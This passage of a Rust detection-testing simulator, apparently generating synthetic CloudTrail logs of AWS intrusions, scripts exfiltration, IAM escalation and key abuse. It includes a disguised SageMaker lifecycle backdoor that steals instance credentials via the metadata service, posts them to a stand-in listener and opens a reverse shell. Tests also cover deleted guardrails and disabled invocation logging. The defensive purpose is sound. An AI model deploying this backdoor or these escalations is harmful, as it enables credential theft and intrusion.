                        "Bucket": format!("arn:aws:s3:::{OUTSIDE_BUCKET}"),
                        "Account": OUTSIDE_ACCOUNT,
                        "AccessControlTranslation": {"Owner": "Destination"},
                    },
                },
            },
        }),
        Value::Null,
    );

    // Objects copied straight into the outside bucket.
    let outside_host = s.bucket_host(OUTSIDE_BUCKET);
    for _ in 0..8 {
        s.pause_ms(1_500, 5_000);
        let key = s.training_object();
        let rec = s.call(
            &cli,
            S3,
            "CopyObject",
            json!({"bucketName": OUTSIDE_BUCKET, "Host": outside_host, "key": key, "x-amz-copy-source": format!("{bucket}/{key}")}),
            Value::Null,
        );
        rec["resources"] = json!([
            {"type": "AWS::S3::Object", "ARN": format!("arn:aws:s3:::{bucket}/{key}")},
            {"accountId": account, "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{bucket}")},
            {"type": "AWS::S3::Object", "ARN": format!("arn:aws:s3:::{OUTSIDE_BUCKET}/{key}")},
            {"accountId": OUTSIDE_ACCOUNT, "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{OUTSIDE_BUCKET}")},
        ]);
    }

    // Destruction and the note.
    s.pause(60);
    for _ in 0..70 {
        s.pause_ms(80, 450);
        let key = s.training_object();
        s.call(
            &rclone,
            S3,
            "DeleteObject",
            json!({"bucketName": bucket, "Host": host, "key": key}),
            Value::Null,
        );
    }
    s.pause(7);
    s.call(
        &cli,
        S3,
        "PutObject",
        json!({"bucketName": bucket, "Host": host, "key": "README-RECOVER-YOUR-DATA.txt"}),
        json!({"x-amz-server-side-encryption": "AES256"}),
    );
}

/// A poisoned pull-request workflow gets a session of the deployment role
/// through GitHub's OIDC provider (the role trusts every ref of the
/// repository), rewrites the policy of `bedrock-app-role` to grant
/// `bedrock:*` and `*`, opens the trust of `bedrock-app-role` to the
/// intruders' account and that of `ml-training-role` to everyone, and then
/// assumes the application role from the outside account.
fn ai_role_privilege_escalation(s: &mut Script) {
    let account = s.account.clone();
    let runner_ip = "192.0.2.129";
    let gha_ua = s.cast("github-actions-deploy").user_agent().to_string();
    let deploy_role = "github-actions-deploy";
    let provider =
        format!("arn:aws:iam::{account}:oidc-provider/token.actions.githubusercontent.com");
    let subject = "repo:acme/ml-platform:pull_request";

    s.at(288);
    let key = s.session_key();
    let mut response = s.assumed_role_response(deploy_role, "GitHubActions", &key);
    response["subjectFromWebIdentityToken"] = subject.into();
    response["provider"] = provider.clone().into();
    response["audience"] = "sts.amazonaws.com".into();
    let oidc = Actor::iam_user(&account, "oidc", "", runner_ip, UA_GHA_CREDENTIALS);
    let rec = s.call(
        &oidc,
        STS,
        "AssumeRoleWithWebIdentity",
        json!({"roleArn": format!("arn:aws:iam::{account}:role/{deploy_role}"), "roleSessionName": "GitHubActions", "durationSeconds": 3600}),
        response,
    );
    rec["userIdentity"] = json!({
        "type": "WebIdentityUser",
        "principalId": format!("{provider}:sts.amazonaws.com:{subject}"),
        "userName": subject,
        "identityProvider": provider,
    });
    let session_start = s.now();
    let who = Actor::assumed_role(
        &account,
        deploy_role,
        "GitHubActions",
        &key,
        runner_ip,
        &gha_ua,
    )
    .with_session_created(session_start);

    let policy_arn = format!("arn:aws:iam::{account}:policy/{APP_POLICY}");
    s.pause(6);
    s.call(&who, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(4);
    s.call(
        &who,
        IAM,
        "ListAttachedRolePolicies",
        json!({"roleName": "bedrock-app-role"}),
        Value::Null,
    );
    s.pause(3);
    s.call(
        &who,
        IAM,
        "GetPolicy",
        json!({"policyArn": policy_arn}),
        Value::Null,
    );
    s.pause(3);
    s.call(
        &who,
        IAM,
        "GetPolicyVersion",
        json!({"policyArn": policy_arn, "versionId": "v4"}),
        Value::Null,
    );
    s.pause(3);
    s.call(
        &who,
        IAM,
        "ListPolicyVersions",
        json!({"policyArn": policy_arn}),
        Value::Null,
    );
    s.pause(7);
    let document = r#"{"Version":"2012-10-17","Statement":[{"Sid":"BedrockInvoke","Effect":"Allow","Action":"bedrock:*","Resource":"*"},{"Sid":"Diagnostics","Effect":"Allow","Action":"*","Resource":"*"}]}"#;
    let created = fmt_aws_date(s.now());
    s.call(
        &who,
        IAM,
        "CreatePolicyVersion",
        json!({"policyArn": policy_arn, "policyDocument": document, "setAsDefault": false}),
        json!({"policyVersion": {"versionId": "v5", "isDefaultVersion": false, "createDate": created}}),
    );
    s.pause(5);
    s.call(
        &who,
        IAM,
        "SetDefaultPolicyVersion",
        json!({"policyArn": policy_arn, "versionId": "v5"}),
        Value::Null,
    );
    s.pause(8);
    s.call(
        &who,
        IAM,
        "GetRole",
        json!({"roleName": "bedrock-app-role"}),
        Value::Null,
    );
    s.pause(6);
    let app_trust = format!(
        r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Service":"ec2.amazonaws.com"}},"Action":"sts:AssumeRole"}},{{"Effect":"Allow","Principal":{{"AWS":"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"}},"Action":"sts:AssumeRole"}}]}}"#
    );
    s.call(
        &who,
        IAM,
        "UpdateAssumeRolePolicy",
        json!({"roleName": "bedrock-app-role", "policyDocument": app_trust}),
        Value::Null,
    );
    s.pause(8);
    s.call(
        &who,
        IAM,
        "GetRole",
        json!({"roleName": "ml-training-role"}),
        Value::Null,
    );
    s.pause(6);
    let training_trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"sagemaker.amazonaws.com"},"Action":"sts:AssumeRole"},{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}"#;
    s.call(
        &who,
        IAM,
        "UpdateAssumeRolePolicy",
        json!({"roleName": "ml-training-role", "policyDocument": training_trust}),
        Value::Null,
    );

    // The application role assumed from the intruders' account.
    s.at(430);
    let outside_ip = "192.0.2.130";
    let session = format!("botocore-session-{}", s.now().timestamp());
    let key = s.session_key();
    let response = s.assumed_role_response("bedrock-app-role", &session, &key);
    let caller = Actor::iam_user(OUTSIDE_ACCOUNT, "ops", "", outside_ip, UA_BOTO_VPS);
    let principal_id = format!("AIDA{}", s.random(ID_CHARS, 17));
    let rec = s.call(
        &caller,
        STS,
        "AssumeRole",
        json!({"roleArn": format!("arn:aws:iam::{account}:role/bedrock-app-role"), "roleSessionName": session, "durationSeconds": 3600}),
        response,
    );
    rec["userIdentity"] =
        json!({"type": "AWSAccount", "principalId": principal_id, "accountId": OUTSIDE_ACCOUNT});
    let assumed_at = s.now();
    let app = Actor::assumed_role(
        &account,
        "bedrock-app-role",
        &session,
        &key,
        outside_ip,
        UA_BOTO_VPS,
    )
    .with_session_created(assumed_at);
    s.pause(5);
    s.call(&app, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(6);
    s.call(
        &app,
        BEDROCK,
        "ListFoundationModels",
        Value::Null,
        Value::Null,
    );
    for _ in 0..3 {
        let gap = 10 + s.rng.i64(0..10);
        s.pause(gap);
        let input = s.rng.u32(1_000..8_000);
        let output = s.rng.u32(500..4096);
        s.invoke(&app, "InvokeModel", SONNET35, input, output);
    }
    s.pause(12);
    s.call(
        &app,
        IAM,
        "ListRoles",
        json!({"maxItems": 1000}),
        Value::Null,
    );
}

/// The key of `mlops-bot`, pushed to a public repository, is picked up by
/// several parties within half an hour: secret scanners validate it, others
/// enumerate, one creates an access key for the administrator `alice.chen`
/// and uses it.
fn credential_sharing(s: &mut Script) {
    let bot = s.cast("mlops-bot");
    let from = |ip: &str, ua: &str| bot.clone().with_source_ip(ip).with_user_agent(ua);
    let trufflehog = from("192.0.2.10", UA_TRUFFLEHOG);
    let scanner = from("192.0.2.23", UA_GO_SCANNER);
    let windows = from("192.0.2.141", UA_BOTO_WINDOWS);
    let kali = from("192.0.2.166", UA_CLI_KALI);
    let mac = from("192.0.2.201", UA_BOTO_MAC_ATTACK);

    s.at(300);
    s.call(
        &trufflehog,
        STS,
        "GetCallerIdentity",
        Value::Null,
        Value::Null,
    );
    s.at(372);
    s.call(&scanner, STS, "GetCallerIdentity", Value::Null, Value::Null);

    s.at(545);
    s.call(&windows, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(3);
    s.call(
        &windows,
        IAM,
        "ListAttachedUserPolicies",
        json!({"userName": "mlops-bot"}),
        Value::Null,
    );
    s.pause(4);
    let list_host = format!("s3.{}.amazonaws.com", s.region);
    s.call(
        &windows,
        S3,
        "ListBuckets",
        json!({"Host": list_host}),
        Value::Null,
    );

    s.at(910);
    s.call(&kali, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(5);
    s.call(
        &kali,
        IAM,
        "ListUsers",
        json!({"maxItems": 1000}),
        Value::Null,
    );
    s.pause(9);
    s.call(
        &kali,
        IAM,
        "ListAccessKeys",
        json!({"userName": "alice.chen"}),
        Value::Null,
    );
    s.pause(7);
    let new_key = format!("AKIA{}", s.random(ID_CHARS, 16));
    let created = fmt_aws_date(s.now());
    s.call(
        &kali,
        IAM,
        "CreateAccessKey",
        json!({"userName": "alice.chen"}),
        json!({"accessKey": {"userName": "alice.chen", "accessKeyId": new_key, "status": "Active", "createDate": created}}),
    );

    s.at(1320);
    s.call(&mac, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(4);
    s.call(
        &mac,
        SAGEMAKER,
        "ListNotebookInstances",
        json!({"maxResults": 100}),
        Value::Null,
    );

    // The new key of alice.chen, from the address that made it.
    let alice = Actor::iam_user(
        &s.account,
        "alice.chen",
        &new_key,
        "192.0.2.166",
        UA_CLI_KALI,
    );
    s.at(1400);
    s.call(&alice, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(6);
    s.call(
        &alice,
        IAM,
        "ListAccessKeys",
        json!({"userName": "alice.chen"}),
        Value::Null,
    );
}

/// The shell script of the backdoor: on every start of the notebook it
/// sends the instance role's credentials to the intruder and keeps a
/// reverse shell open.
fn lifecycle_script(listener: &str) -> String {
    format!(
        r#"#!/bin/bash
# Keeps the notebook's Jupyter extensions up to date.
set -e
sudo -u ec2-user -i <<'EOF'
pip install --quiet --upgrade jupyterlab-git >/dev/null 2>&1 || true
EOF
nohup bash -c '
while true; do
  TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")
  ROLE=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/)
  curl -s -H "X-aws-ec2-metadata-token: $TOKEN" "http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE" | curl -s -m 10 -k -X POST --data-binary @- https://{listener}:8443/k
  bash -i >& /dev/tcp/{listener}/4444 0>&1
  sleep 600
done' >/dev/null 2>&1 &
"#
    )
}

/// A stolen session of an ML engineer plants a lifecycle configuration on a
/// research notebook, restarts it with the configuration attached, opens it
/// through a presigned URL from another address, and uses the notebook
/// role's credentials sent home by the script.
fn sagemaker_lifecycle_backdoor(s: &mut Script) {
    let listener = "192.0.2.95";
    let who = s
        .cast("dana.kim@acme.example")
        .with_source_ip(listener)
        .with_user_agent(UA_BOTO_VPS);
    let config = "jupyter-extensions-autoupdate";
    let config_arn = format!(
        "arn:aws:sagemaker:{}:{}:notebook-instance-lifecycle-config/{config}",
        s.region, s.account
    );
    let notebook = json!({"notebookInstanceName": NOTEBOOK});

    s.at(300);
    s.call(&who, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(6);
    s.call(
        &who,
        SAGEMAKER,
        "ListNotebookInstances",
        json!({"maxResults": 100}),
        Value::Null,
    );
    s.pause(5);
    s.call(
        &who,
        SAGEMAKER,
        "DescribeNotebookInstance",
        notebook.clone(),
        Value::Null,
    );
    s.pause(6);
    s.call(
        &who,
        SAGEMAKER,
        "ListNotebookInstanceLifecycleConfigs",
        json!({"maxResults": 100}),
        Value::Null,
    );
    s.pause(25);
    let content = base64(lifecycle_script(listener).as_bytes());
    s.call(
        &who,
        SAGEMAKER,
        "CreateNotebookInstanceLifecycleConfig",
        json!({"notebookInstanceLifecycleConfigName": config, "onStart": [{"content": content}]}),
        json!({"notebookInstanceLifecycleConfigArn": config_arn}),
    );
    s.pause(8);
    s.call(
        &who,
        SAGEMAKER,
        "StopNotebookInstance",
        notebook.clone(),
        Value::Null,
    );
    s.at(470);
    s.call(
        &who,
        SAGEMAKER,
        "DescribeNotebookInstance",
        notebook.clone(),
        Value::Null,
    );
    s.pause(6);
    s.call(
        &who,
        SAGEMAKER,
        "UpdateNotebookInstance",
        json!({"notebookInstanceName": NOTEBOOK, "lifecycleConfigName": config}),
        Value::Null,
    );
    s.pause(14);
    s.call(
        &who,
        SAGEMAKER,
        "StartNotebookInstance",
        notebook,
        Value::Null,
    );

    s.at(780);
    let browser = who
        .clone()
        .with_source_ip("192.0.2.180")
        .with_user_agent(UA_BOTO_MAC_ATTACK);
    s.call(
        &browser,
        SAGEMAKER,
        "CreatePresignedNotebookInstanceUrl",
        json!({"notebookInstanceName": NOTEBOOK, "sessionExpirationDurationInSeconds": 43200}),
        json!({"authorizedUrl": "HIDDEN_DUE_TO_SECURITY_REASONS"}),
    );

    // The notebook role's credentials, used from the listener.
    let stolen = s
        .cast("sagemaker-notebook-role")
        .with_source_ip(listener)
        .with_user_agent(UA_BOTO_VPS);
    let host = s.bucket_host(TRAINING_BUCKET);
    s.at(845);
    s.call(&stolen, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(7);
    s.call(
        &stolen,
        S3,
        "ListObjects",
        json!({"list-type": "2", "bucketName": TRAINING_BUCKET, "encoding-type": "url", "prefix": "datasets/", "Host": host}),
        Value::Null,
    );
    for _ in 0..5 {
        s.pause_ms(700, 3_000);
        let key = s.training_object();
        s.call(
            &stolen,
            S3,
            "GetObject",
            json!({"bucketName": TRAINING_BUCKET, "Host": host, "key": key}),
            Value::Null,
        );
    }
}

/// Makes a record a console sign-in event as CloudTrail logs it: event type
/// `AwsConsoleSignIn`, no request parameters, and whether MFA was used in
/// `additionalEventData`.
fn console_sign_in(rec: &mut Value, mfa: bool) {
    rec["eventType"] = "AwsConsoleSignIn".into();
    rec["readOnly"] = false.into();
    rec["requestParameters"] = Value::Null;
    rec["additionalEventData"] = json!({
        "LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
        "MobileVersion": "No",
        "MFAUsed": if mfa { "Yes" } else { "No" },
    });
    if let Value::Object(m) = rec {
        m.remove("requestID");
    }
}

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

/// Turns an S3 data event into an anonymous (unsigned) request.
fn make_anonymous(rec: &mut Value) {
    rec["userIdentity"] =
        json!({"type": "AWSAccount", "principalId": "", "accountId": "anonymous"});
    if let Some(aed) = rec
        .get_mut("additionalEventData")
        .and_then(Value::as_object_mut)
    {
        aed.remove("SignatureVersion");
        aed.remove("AuthenticationMethod");
    }
}

/// The date format IAM, STS and KMS use in responses: `Nov 2, 2026, 8:05:12 AM`.
fn fmt_aws_date(t: DateTime<Utc>) -> String {
    t.format("%b %-d, %Y, %-I:%M:%S %p").to_string()
}

/// `2026-11-02T08:06:10.123456789Z`.
fn iso_nanos(t: DateTime<Utc>, nanos: u32) -> String {
    format!("{}.{nanos:09}Z", t.format("%Y-%m-%dT%H:%M:%S"))
}

/// Standard base64 with padding.
fn base64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// What IAM leaves as it is when it URL-encodes a policy document in a
/// response: letters, digits and `-_.~`.
const IAM_UNRESERVED: &percent_encoding::AsciiSet = &percent_encoding::NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'_')
    .remove(b'.')
    .remove(b'~');

/// URL encoding as IAM applies it to policy documents in responses.
fn percent_encode(s: &str) -> String {
    percent_encoding::utf8_percent_encode(s, IAM_UNRESERVED).to_string()
}

fn fnv1a(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

/// An identifier with `prefix` that depends only on `seed`.
fn stable_id(prefix: &str, seed: &str, len: usize) -> String {
    let mut rng = fastrand::Rng::with_seed(fnv1a(seed));
    let mut s = String::with_capacity(len);
    s.push_str(prefix);
    while s.len() < len {
        s.push(ID_CHARS[rng.usize(..ID_CHARS.len())] as char);
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn progress_is_told_every_1024_records_written() {
        let dir = tempfile::tempdir().unwrap();
        let options = SimOptions {
            background: 5000,
            ..Default::default()
        };
        let mut told = Vec::new();
        let n = write_counted("llmjacking", &options, &dir.path().join("x.json.gz"), |k| {
            told.push(k)
        })
        .unwrap();
        assert!(n > 5000, "{n}");
        let expected: Vec<u64> = (1..=n / 1024).map(|k| k * 1024).collect();
        assert_eq!(told, expected);
    }
    use std::collections::{BTreeMap, BTreeSet, HashSet};
    use trailwarden_engine::policy::wildcard_match;
    use trailwarden_engine::Policy;

    fn with_background(background: usize) -> SimOptions {
        SimOptions {
            background,
            ..SimOptions::default()
        }
    }

    fn all(name: &str, options: &SimOptions) -> Vec<Value> {
        records(name, options).unwrap().collect()
    }

    fn attack(name: &str) -> Vec<Value> {
        plan(name, &SimOptions::default())
            .unwrap()
            .attack
            .into_iter()
            .map(|t| t.record)
            .collect()
    }

    fn str_of<'a>(rec: &'a Value, path: &[&str]) -> &'a str {
        let mut v = rec;
        for p in path {
            v = &v[*p];
        }
        v.as_str().unwrap_or_default()
    }

    fn name(rec: &Value) -> &str {
        str_of(rec, &["eventName"])
    }

    fn time(rec: &Value) -> DateTime<Utc> {
        DateTime::parse_from_rfc3339(str_of(rec, &["eventTime"]))
            .unwrap()
            .with_timezone(&Utc)
    }

    fn position(recs: &[Value], event: &str) -> usize {
        recs.iter()
            .position(|r| name(r) == event)
            .unwrap_or_else(|| panic!("no {event}"))
    }

    fn ok(rec: &Value) -> bool {
        rec.get("errorCode").is_none()
    }

    /// A fact of the example policy, read by the engine's own parser.
    fn policy_list(key: &str) -> Vec<String> {
        let policy = Policy::from_yaml("example", example_policy_yaml()).unwrap();
        let values = policy.fact(key).to_vec();
        assert!(!values.is_empty(), "{key} missing");
        values
    }

    fn approved(principal: &str) -> bool {
        policy_list("approved_principals")
            .iter()
            .any(|p| wildcard_match(p, principal))
    }

    #[test]
    fn every_scenario_is_ordered_and_keeps_its_background() {
        let options = with_background(2000);
        let benign_ids: HashSet<String> = all("benign", &options)
            .iter()
            .map(|r| str_of(r, &["eventID"]).to_string())
            .collect();
        assert_eq!(benign_ids.len(), 2000);
        for (scenario, description) in SCENARIOS {
            assert!(!description.is_empty());
            let intrusion = attack(scenario);
            assert_eq!(intrusion.is_empty(), *scenario == "benign", "{scenario}");
            let recs = all(scenario, &options);
            assert_eq!(recs.len(), 2000 + intrusion.len(), "{scenario}");
            for pair in recs.windows(2) {
                assert!(
                    str_of(&pair[0], &["eventTime"]) <= str_of(&pair[1], &["eventTime"]),
                    "{scenario}: {} after {}",
                    str_of(&pair[1], &["eventTime"]),
                    str_of(&pair[0], &["eventTime"])
                );
            }
            let mut expected = benign_ids.clone();
            expected.extend(
                intrusion
                    .iter()
                    .map(|r| str_of(r, &["eventID"]).to_string()),
            );
            let got: HashSet<String> = recs
                .iter()
                .map(|r| str_of(r, &["eventID"]).to_string())
                .collect();
            assert_eq!(got, expected, "{scenario}");
            if let Some(first) = intrusion.first() {
                let offset = time(first) - options.start;
                assert!(
                    offset >= Duration::minutes(4) && offset <= Duration::minutes(6),
                    "{scenario} starts at {offset}"
                );
                // Woven in, not appended: background on both sides.
                let at = recs.iter().position(|r| r == first).unwrap();
                assert!(at > 50 && at < recs.len() - 50, "{scenario} at {at}");
            }
            for rec in &intrusion {
                assert_eq!(rec["recipientAccountId"], "111122223333");
                assert_eq!(rec["awsRegion"], "us-east-1");
            }
        }
    }

    #[test]
    fn same_seed_same_records() {
        let options = with_background(500);
        for (scenario, _) in SCENARIOS {
            let a: Vec<String> = all(scenario, &options)
                .iter()
                .map(synth::record_to_string)
                .collect();
            let b: Vec<String> = all(scenario, &options)
                .iter()
                .map(synth::record_to_string)
                .collect();
            assert_eq!(a, b, "{scenario}");
            let other = SimOptions {
                seed: 7,
                ..options.clone()
            };
            let c: Vec<String> = all(scenario, &other)
                .iter()
                .map(synth::record_to_string)
                .collect();
            assert_ne!(a, c, "{scenario}");
        }
    }

    #[test]
    fn benign_is_the_background_only() {
        let options = with_background(3000);
        let recs = all("benign", &options);
        assert_eq!(recs.len(), 3000);
        let mut synth = Synth::new(SynthConfig::default());
        for rec in &recs {
            assert_eq!(rec, &synth.benign());
            assert!(!synth::FLAGGED_EVENT_NAMES.contains(&name(rec)));
            assert!(!str_of(rec, &["sourceIPAddress"]).starts_with("192.0.2."));
        }
        let none = with_background(0);
        assert_eq!(records("benign", &none).unwrap().count(), 0);
        assert_eq!(
            records("llmjacking", &none).unwrap().count(),
            attack("llmjacking").len()
        );
    }

    #[test]
    fn unknown_scenario_lists_the_valid_names() {
        let err = records("llm-jacking", &SimOptions::default())
            .err()
            .expect("unknown");
        assert_eq!(err, UnknownScenario("llm-jacking".to_string()));
        let text = err.to_string();
        assert!(text.contains("`llm-jacking`"), "{text}");
        for (scenario, _) in SCENARIOS {
            assert!(text.contains(scenario), "{text}");
        }
        let dir = tempfile::tempdir().unwrap();
        let err = write(
            "nope",
            &SimOptions::default(),
            &dir.path().join("x.json.gz"),
        )
        .unwrap_err();
        assert!(matches!(err, SimError::UnknownScenario(_)));
        assert!(err.to_string().contains("benign"));
    }

    #[test]
    fn large_background_is_generated_on_demand() {
        for scenario in ["benign", "training-data-exfiltration"] {
            let options = with_background(200_000);
            let mut it = records(scenario, &options).unwrap();
            let extra = attack(scenario).len();
            assert_eq!(it.size_hint(), (200_000 + extra, Some(200_000 + extra)));
            let first: Vec<Value> = it.by_ref().take(1000).collect();
            assert_eq!(first.len(), 1000);
            assert_eq!(it.size_hint().0, 199_000 + extra);
        }
    }

    #[test]
    fn write_produces_a_gzip_delivery_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("trail.json.gz");
        let options = with_background(300);
        let n = write("kms-key-deletion", &options, &path).unwrap();
        assert_eq!(n as usize, 300 + attack("kms-key-deletion").len());
        let file = std::fs::File::open(&path).unwrap();
        let doc: Value = serde_json::from_reader(flate2::read::GzDecoder::new(file)).unwrap();
        let recs = doc["Records"].as_array().unwrap();
        assert_eq!(recs.len() as u64, n);
        assert!(recs.iter().any(|r| name(r) == "ScheduleKeyDeletion"));
    }

    #[test]
    fn llmjacking_recon_then_invocations_with_one_key() {
        let recs = attack("llmjacking");
        let key = str_of(&recs[0], &["userIdentity", "accessKeyId"]);
        assert!(key.starts_with("AKIA"));
        assert!(recs
            .iter()
            .all(|r| str_of(r, &["userIdentity", "accessKeyId"]) == key));
        assert!(recs
            .iter()
            .all(|r| r["userIdentity"]["userName"] == "analytics-etl"));
        let span = time(recs.last().unwrap()) - time(&recs[0]);
        assert!(span < Duration::minutes(15), "{span}");
        let recon = [
            "ListFoundationModels",
            "GetFoundationModelAvailability",
            "GetModelInvocationLoggingConfiguration",
            "ListFoundationModelAgreementOffers",
            "PutUseCaseForModelAccess",
            "CreateFoundationModelAgreement",
        ];
        let runtime = ["InvokeModel", "InvokeModelWithResponseStream", "Converse"];
        let first_invoke = recs
            .iter()
            .position(|r| runtime.contains(&name(r)))
            .unwrap();
        for event in recon {
            assert!(position(&recs, event) < first_invoke, "{event}");
        }
        let invocations: Vec<&Value> = recs.iter().filter(|r| runtime.contains(&name(r))).collect();
        assert!(invocations.len() >= 40, "{}", invocations.len());
        let models: BTreeSet<&str> = invocations
            .iter()
            .filter(|r| ok(r))
            .map(|r| str_of(r, &["requestParameters", "modelId"]))
            .collect();
        assert!(models.len() >= 3, "{models:?}");
        let failures: Vec<&str> = invocations
            .iter()
            .take(4)
            .map(|r| str_of(r, &["errorCode"]))
            .collect();
        assert!(failures.contains(&"ValidationException"));
        assert!(failures.contains(&"AccessDeniedException"));
        let ips: BTreeSet<&str> = recs
            .iter()
            .map(|r| str_of(r, &["sourceIPAddress"]))
            .collect();
        assert!(ips.iter().all(|ip| ip.starts_with("192.0.2.")));
        // The key never used Bedrock before.
        let mut synth = Synth::new(SynthConfig::default());
        for _ in 0..20_000 {
            let rec = synth.benign();
            if rec["eventSource"] == "bedrock.amazonaws.com" {
                assert_ne!(rec["userIdentity"]["accessKeyId"], key);
            }
        }
    }

    #[test]
    fn invocation_logging_read_then_deleted() {
        let recs = attack("invocation-logging-disabled");
        let delete = position(&recs, "DeleteModelInvocationLoggingConfiguration");
        assert!(position(&recs, "GetModelInvocationLoggingConfiguration") < delete);
        assert!(ok(&recs[delete]));
        assert_eq!(recs[delete]["eventSource"], "bedrock.amazonaws.com");
        assert!(recs[delete + 1..].iter().any(|r| name(r) == "Converse"));
    }

    #[test]
    fn guardrail_weakened_then_deleted() {
        let recs = attack("guardrail-deleted");
        let delete = position(&recs, "DeleteGuardrail");
        assert!(position(&recs, "ListGuardrails") < delete);
        assert!(position(&recs, "GetGuardrail") < delete);
        let update = &recs[position(&recs, "UpdateGuardrail")];
        let filters = update["requestParameters"]["contentPolicyConfig"]["filtersConfig"]
            .as_array()
            .unwrap();
        assert!(filters.iter().all(|f| f["inputStrength"] == "NONE"));
        assert_eq!(
            recs[delete]["requestParameters"]["guardrailIdentifier"],
            GUARDRAIL_ID
        );
        // The chat application's guarded calls fail once it is gone.
        let at = time(&recs[delete]);
        let scenario = all("guardrail-deleted", &with_background(3000));
        let guarded: Vec<&Value> = scenario
            .iter()
            .filter(|r| {
                r["requestParameters"]["guardrailIdentifier"] == GUARDRAIL_ID
                    && r["userIdentity"]["type"] == "AssumedRole"
                    && !str_of(r, &["sourceIPAddress"]).starts_with("192.0.2.")
            })
            .collect();
        assert!(guarded.iter().any(|r| time(r) < at && ok(r)));
        let after: Vec<&&Value> = guarded.iter().filter(|r| time(r) > at).collect();
        assert!(!after.is_empty());
        assert!(after
            .iter()
            .all(|r| r["errorCode"] == "ResourceNotFoundException"));
    }

    #[test]
    fn training_bucket_made_public() {
        let recs = attack("training-bucket-public");
        let unblock = position(&recs, "DeleteBucketPublicAccessBlock");
        let policy = &recs[position(&recs, "PutBucketPolicy")];
        assert!(unblock < position(&recs, "PutBucketPolicy"));
        assert_eq!(policy["requestParameters"]["bucketName"], TRAINING_BUCKET);
        assert_eq!(
            policy["requestParameters"]["bucketPolicy"]["Statement"][0]["Principal"],
            "*"
        );
        let acl = recs
            .iter()
            .find(|r| name(r) == "PutBucketAcl" && ok(r))
            .unwrap();
        let text = acl["requestParameters"].to_string();
        assert!(text.contains("http://acs.amazonaws.com/groups/global/AllUsers"));
        let anonymous: Vec<&Value> = recs
            .iter()
            .filter(|r| r["userIdentity"]["accountId"] == "anonymous")
            .collect();
        assert!(anonymous.len() >= 3);
        assert!(anonymous.iter().all(|r| r["eventCategory"] == "Data"));
    }

    #[test]
    fn training_data_read_by_a_stranger_then_sent_outside() {
        let recs = attack("training-data-exfiltration");
        let trusted = policy_list("trusted_accounts");
        let arn = str_of(&recs[0], &["userIdentity", "arn"]).to_string();
        // Never seen on the bucket in the background.
        let mut synth = Synth::new(SynthConfig::default());
        for _ in 0..20_000 {
            let rec = synth.benign();
            if rec["requestParameters"]["bucketName"] == TRAINING_BUCKET {
                assert_ne!(str_of(&rec, &["userIdentity", "arn"]), arn);
            }
        }
        let gets = recs
            .iter()
            .filter(|r| {
                name(r) == "GetObject" && r["requestParameters"]["bucketName"] == TRAINING_BUCKET
            })
            .count();
        assert!(gets >= 100, "{gets}");
        let replication = position(&recs, "PutBucketReplication");
        assert!(position(&recs, "ListObjects") < replication);
        let destination = &recs[replication]["requestParameters"]["ReplicationConfiguration"]
            ["Rule"]["Destination"];
        let account = destination["Account"].as_str().unwrap();
        assert!(!trusted.iter().any(|a| a == account));
        let copy = &recs[position(&recs, "CopyObject")];
        assert_eq!(copy["requestParameters"]["bucketName"], OUTSIDE_BUCKET);
        let deletes: Vec<&Value> = recs.iter().filter(|r| name(r) == "DeleteObject").collect();
        assert!(deletes.len() >= 50);
        assert!(time(deletes[0]) > time(&recs[replication]));
        let burst = time(deletes[deletes.len() - 1]) - time(deletes[0]);
        assert!(burst < Duration::minutes(1), "{burst}");
    }

    #[test]
    fn ai_role_policy_escalated_and_trust_opened() {
        let recs = attack("ai-role-privilege-escalation");
        let create = position(&recs, "CreatePolicyVersion");
        assert!(create < position(&recs, "SetDefaultPolicyVersion"));
        let document = str_of(&recs[create], &["requestParameters", "policyDocument"]);
        assert!(document.contains(r#""bedrock:*""#));
        assert!(document.contains(r#""Action":"*""#));
        assert!(str_of(&recs[create], &["requestParameters", "policyArn"]).ends_with(APP_POLICY));
        let trusts: BTreeMap<&str, &str> = recs
            .iter()
            .filter(|r| name(r) == "UpdateAssumeRolePolicy")
            .map(|r| {
                (
                    str_of(r, &["requestParameters", "roleName"]),
                    str_of(r, &["requestParameters", "policyDocument"]),
                )
            })
            .collect();
        assert!(trusts["bedrock-app-role"].contains(OUTSIDE_ACCOUNT));
        assert!(trusts["ml-training-role"].contains(r#""AWS":"*""#));
        let outside = recs.iter().find(|r| name(r) == "AssumeRole").unwrap();
        assert_eq!(outside["userIdentity"]["type"], "AWSAccount");
        assert_eq!(outside["userIdentity"]["accountId"], OUTSIDE_ACCOUNT);
        assert_eq!(recs[0]["userIdentity"]["type"], "WebIdentityUser");
    }

    #[test]
    fn trail_blinded_then_deleted() {
        let recs = attack("trail-tampering");
        let selectors = position(&recs, "PutEventSelectors");
        let stop = position(&recs, "StopLogging");
        let delete = position(&recs, "DeleteTrail");
